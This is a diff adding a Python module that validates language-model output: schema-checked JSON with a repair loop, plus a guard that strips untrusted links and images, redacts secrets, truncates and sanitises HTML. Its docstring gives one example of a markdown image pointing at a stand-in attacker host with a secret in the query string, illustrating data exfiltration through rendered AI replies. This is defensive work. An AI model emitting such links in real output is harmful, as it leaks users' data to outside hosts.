@@ -1,0 +1,311 @@
+"""Output validation: nothing a model writes reaches a user or a browser unchecked.
+
+Two guards, each a small object with an event sink:
+
+- `StructuredOutput(Schema)` asks for JSON matching a pydantic model and parses the reply. Invalid
+  JSON, a schema violation or a reply cut off by `max_tokens` starts a bounded repair loop: the
+  model is shown its reply and the validation errors and asked again, every attempt's tokens are
+  counted, and after the last repair a typed `OutputRejected` is raised. A refusal is its own
+  outcome (`ModelRefused`), never mistaken for a parse error: asking again would not help.
+- `OutputGuard` makes reply text safe to show: markdown links and images to hosts not on the
+  allow-list are removed (a browser fetches `![](https://attacker/?q=<secret>)` by itself when
+  it renders the reply), secrets and personal data are redacted, and only then is the text cut to
+  its token limit (truncating first can cut a secret in half and let its first part through).
+  `safe_html()` renders the result for a browser: raw HTML escaped, the HTML sanitised by nh3.
+
+Every decision (repaired, refused, rejected, redacted, link removed, truncated) is an event.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable, Iterable, Mapping
+from dataclasses import dataclass
+from typing import Any, Generic, TypeVar
+from urllib.parse import urlsplit
+
+import nh3
+import pydantic
+from markdown_it import MarkdownIt
+from openai.lib import type_to_response_format_param
+
+from . import redaction
+from ._wrapping import check
+from .clock import SYSTEM_CLOCK, Clock
+from .events import Event, EventSink, LinkRemoved, OutputVerdict, Redacted, RepairAttempt, Truncated
+from .sim.models import encoding_for
+
+__all__ = ["StructuredOutput", "Structured", "ModelRefused", "OutputRejected", "Problem", "judge",
+           "OutputGuard", "Guarded", "remove_untrusted_links", "truncate_tokens", "safe_html"]
+
+T = TypeVar("T", bound=pydantic.BaseModel)
+
+
+# --- structure -------------------------------------------------------------------------------
+class ModelRefused(Exception):
+    """The model declined to answer (its `refusal` field); repairing would only be refused again."""
+
+    def __init__(self, refusal: str, attempts: int) -> None:
+        super().__init__(f"the model refused: {refusal}")
+        self.refusal, self.attempts = refusal, attempts
+
+
+class OutputRejected(Exception):
+    """Still invalid after the last repair; `problems` lists what was wrong with each attempt."""
+
+    def __init__(self, problems: list[Problem], prompt_tokens: int, completion_tokens: int) -> None:
+        last = problems[-1]
+        super().__init__(f"no valid reply after {len(problems)} attempts; last: {last.kind}: {last.detail}")
+        self.problems, self.prompt_tokens, self.completion_tokens = problems, prompt_tokens, completion_tokens
+
+
+@dataclass(frozen=True, slots=True)
+class Problem:
+    """What was wrong with one reply: kind is "invalid-json", "schema" or "length"."""
+
+    kind: str
+    detail: str
+
+
+@dataclass(frozen=True, slots=True)
+class Structured(Generic[T]):
+    """A validated value, and what getting it cost."""
+
+    value: T
+    attempts: int
+    prompt_tokens: int
+    completion_tokens: int
+
+
+def judge(content: str | None, finish_reason: str | None, schema: type[T]) -> T | Problem:
+    """The parsed value, or the one problem that makes this reply unusable. A reply cut off by
+    the token limit is a problem even when its prefix happens to parse."""
+    if finish_reason == "length":
+        return Problem("length", "the reply was cut off by max_tokens before it was complete")
+    try:
+        data = json.loads(content or "")
+    except json.JSONDecodeError as error:
+        return Problem("invalid-json", f"not valid JSON: {error.msg} at line {error.lineno} column {error.colno}")
+    try:
+        return schema.model_validate(data)
+    except pydantic.ValidationError as error:
+        fields = "; ".join(f"{'.'.join(map(str, e['loc'])) or '(root)'}: {e['msg']}" for e in error.errors())
+        return Problem("schema", fields)
+
+
+def _repair_request(content: str | None, problem: Problem) -> list[dict[str, str]]:
+    """The turns that show the model its reply and what was wrong with it."""
+    return [{"role": "assistant", "content": content or ""},
+            {"role": "user", "content": f"That reply cannot be used ({problem.kind}: {problem.detail}). "
+                                        "Answer again with only a JSON object that matches the schema."}]
+
+
+class StructuredOutput(Generic[T]):
+    """Ask for `schema` as JSON; repair at most `max_repairs` times, then raise OutputRejected."""
+
+    def __init__(self, schema: type[T], *, max_repairs: int = 2, on_event: EventSink | None = None,
+                 clock: Clock = SYSTEM_CLOCK, name: str = "structured-output") -> None:
+        check(isinstance(max_repairs, int) and max_repairs >= 0, "max_repairs", "a whole number >= 0", max_repairs)
+        self.schema, self.max_repairs = schema, max_repairs
+        self.on_event, self.clock, self.name = on_event, clock, name
+        self.response_format = type_to_response_format_param(schema)
+
+    def create(self, client: Any, *, model: str, messages: Iterable[Mapping[str, Any]], **options: Any) -> Structured[T]:
+        """Call `client.chat.completions.create` until a reply validates (sync client)."""
+        run = _Run(self, list(messages))
+        while True:
+            completion = client.chat.completions.create(model=model, messages=run.messages,
+                                                        response_format=self.response_format, **options)
+            if (result := run.judge(completion)) is not None:
+                return result
+
+    async def acreate(self, client: Any, *, model: str, messages: Iterable[Mapping[str, Any]],
+                      **options: Any) -> Structured[T]:
+        """The same with an AsyncOpenAI client."""
+        run = _Run(self, list(messages))
+        while True:
+            completion = await client.chat.completions.create(model=model, messages=run.messages,
+                                                              response_format=self.response_format, **options)
+            if (result := run.judge(completion)) is not None:
+                return result
+
+
+class _Run(Generic[T]):
+    """One validated request: its growing conversation, its attempts and their tokens."""
+
+    def __init__(self, owner: StructuredOutput[T], messages: list[Any]) -> None:
+        self.owner, self.messages = owner, messages
+        self.problems: list[Problem] = []
+        self.prompt_tokens = self.completion_tokens = 0
+
+    def judge(self, completion: Any) -> Structured[T] | None:
+        """The result, None to ask again, or raise ModelRefused / OutputRejected."""
+        usage, choice = completion.usage, completion.choices[0]
+        self.prompt_tokens += usage.prompt_tokens if usage else 0
+        self.completion_tokens += usage.completion_tokens if usage else 0
+        attempt = len(self.problems) + 1
+        if choice.message.refusal:
+            self._verdict("refused", attempt, choice.message.refusal)
+            raise ModelRefused(choice.message.refusal, attempt)
+        outcome = judge(choice.message.content, choice.finish_reason, self.owner.schema)
+        if not isinstance(outcome, Problem):
+            self._verdict("accepted" if attempt == 1 else "repaired", attempt)
+            return Structured(outcome, attempt, self.prompt_tokens, self.completion_tokens)
+        self.problems.append(outcome)
+        if attempt > self.owner.max_repairs:
+            self._verdict("rejected", attempt, f"{outcome.kind}: {outcome.detail}")
+            raise OutputRejected(self.problems, self.prompt_tokens, self.completion_tokens)
+        if self.owner.on_event is not None:
+            self.owner.on_event(RepairAttempt(self.owner.clock.now(), self.owner.name, attempt, outcome.kind,
+                                              outcome.detail, usage.prompt_tokens if usage else 0,
+                                              usage.completion_tokens if usage else 0))
+        self.messages = self.messages + _repair_request(choice.message.content, outcome)
+        return None
+
+    def _verdict(self, outcome: str, attempts: int, detail: str = "") -> None:
+        if self.owner.on_event is not None:
+            self.owner.on_event(OutputVerdict(self.owner.clock.now(), self.owner.name, outcome, attempts, detail))
+
+
+# --- safe text -------------------------------------------------------------------------------
+# Inline images and links `[text](url "title")`, reference definitions `[id]: url`, autolinks `<url>`.
+_INLINE = re.compile(r"(?P<bang>!?)\[(?P<text>(?:[^\[\]\\]|\\.)*)\]\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+[^)]*)?\)")
+_DEFINITION = re.compile(r"^ {0,3}\[(?P<label>[^\]]+)\]:\s*<?(?P<url>\S+?)>?(?:\s+.*)?$", re.M)
+_REFERENCE = re.compile(r"(?P<bang>!?)\[(?P<text>[^\]]*)\]\[(?P<label>[^\]]*)\]")
+_AUTOLINK = re.compile(r"<(?P<url>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
+
+
+def _host(url: str) -> str:
+    try:
+        return (urlsplit(url.strip()).hostname or "").lower()
+    except ValueError:
+        return ""
+
+
+def _trusted(url: str, allowed_hosts: frozenset[str]) -> bool:
+    """Relative links stay on our own site; absolute ones must point at an allowed host (or a
+    subdomain of one) over http(s)."""
+    parts = urlsplit(url.strip())
+    if not parts.scheme and not parts.netloc:
+        return True
+    host = _host(url)
+    return parts.scheme in ("http", "https") and any(host == h or host.endswith("." + h) for h in allowed_hosts)
+
+
+def remove_untrusted_links(markdown: str, allowed_hosts: Iterable[str] = (),
+                           on_removed: Callable[[str, str], None] | None = None) -> str:
+    """Markdown with every image and link to a host not on the allow-list taken out: an image
+    disappears (its alt text could carry data too), a link keeps its text and loses its target,
+    a link definition (`[id]: url`) goes, so no reference-style use of it can render.
+    `on_removed(kind, host)` is called for each one."""
+    allowed = frozenset(h.lower() for h in allowed_hosts)
+    note = on_removed or (lambda kind, host: None)
+    definitions = {m["label"].lower(): m["url"] for m in _DEFINITION.finditer(markdown)}
+
+    def inline(match: re.Match[str]) -> str:
+        if _trusted(match["url"], allowed):
+            return match[0]
+        kind = "image" if match["bang"] else "link"
+        note(kind, _host(match["url"]))
+        return "" if kind == "image" else match["text"]
+
+    def reference(match: re.Match[str]) -> str:
+        url = definitions.get((match["label"] or match["text"]).lower())
+        if url is None or _trusted(url, allowed):
+            return match[0]
+        note("image" if match["bang"] else "link", _host(url))
+        return "" if match["bang"] else match["text"]
+
+    def definition(match: re.Match[str]) -> str:
+        if _trusted(match["url"], allowed):
+            return match[0]
+        note("definition", _host(match["url"]))
+        return ""
+
+    def autolink(match: re.Match[str]) -> str:
+        if _trusted(match["url"], allowed):
+            return match[0]
+        note("link", _host(match["url"]))
+        return "[link removed]"
+
+    text = _INLINE.sub(inline, markdown)
+    text = _REFERENCE.sub(reference, text)
+    text = _DEFINITION.sub(definition, text)
+    return _AUTOLINK.sub(autolink, text)
+
+
+def truncate_tokens(text: str, model: str, max_tokens: int) -> tuple[str, bool]:
+    """At most `max_tokens` of `model`'s tokens, cut at a token boundary that is also a whole
+    character; and whether anything was cut."""
+    encoding = encoding_for(model)
+    tokens = encoding.encode(text)
+    if len(tokens) <= max_tokens:
+        return text, False
+    for end in range(max_tokens, -1, -1):  # a token can end inside a multi-byte character
+        try:
+            piece = encoding.decode(tokens[:end])
+        except ValueError:  # the compiled tokenizer refuses to decode half a character
+            continue
+        if piece is not None and text.startswith(piece):
+            return piece, True
+    return "", True
+
+
+_MARKDOWN = MarkdownIt("commonmark", {"html": False})  # raw HTML in a reply is shown as text
+
+
+def safe_html(markdown: str, allowed_hosts: Iterable[str] = ()) -> str:
+    """HTML for a browser: untrusted links and images removed first, raw HTML escaped by the
+    markdown renderer, then the result sanitised by nh3 (only plain formatting tags, http(s)
+    links, which also get rel="noopener noreferrer")."""
+    allowed = list(allowed_hosts)
+    html = _MARKDOWN.render(remove_untrusted_links(markdown, allowed))
+    return nh3.clean(html, url_schemes={"http", "https"},
+                     attribute_filter=lambda tag, attr, value: value if attr not in ("href", "src")
+                     or _trusted(value, frozenset(allowed)) else None)
+
+
+@dataclass(frozen=True, slots=True)
+class Guarded:
+    """Reply text made safe, and what was done to it."""
+
+    text: str
+    redacted: int
+    links_removed: int
+    truncated: bool
+
+
+class OutputGuard:
+    """Makes reply text safe: untrusted links out, secrets and personal data redacted, then cut
+    to `max_tokens` of `model`'s tokens (redact first, then truncate)."""
+
+    def __init__(self, *, model: str, max_tokens: int, allowed_hosts: Iterable[str] = (),
+                 on_event: EventSink | None = None, clock: Clock = SYSTEM_CLOCK, name: str = "output-guard") -> None:
+        check(isinstance(max_tokens, int) and max_tokens >= 1, "max_tokens", "a whole number >= 1", max_tokens)
+        self.model, self.max_tokens = model, max_tokens
+        self.allowed_hosts = frozenset(h.lower() for h in allowed_hosts)
+        self.on_event, self.clock, self.name = on_event, clock, name
+
+    def check(self, text: str) -> Guarded:
+        removed = redacted = 0
+
+        def note(kind: str, host: str) -> None:
+            nonlocal removed
+            removed += 1
+            if self.on_event is not None:
+                self.on_event(LinkRemoved(self.clock.now(), self.name, kind, host))
+
+        def count(event: Event) -> None:  # redaction reports each kind it replaced
+            nonlocal redacted
+            redacted += event.count if isinstance(event, Redacted) else 0
+            if self.on_event is not None:
+                self.on_event(event)
+
+        text = remove_untrusted_links(text, self.allowed_hosts, note)
+        text = redaction.redact(text, on_event=count, clock=self.clock)
+        whole = len(encoding_for(self.model).encode(text))
+        text, cut = truncate_tokens(text, self.model, self.max_tokens)
+        if cut and self.on_event is not None:
+            self.on_event(Truncated(self.clock.now(), self.name, whole, self.max_tokens))
+        return Guarded(text, redacted, removed, cut)
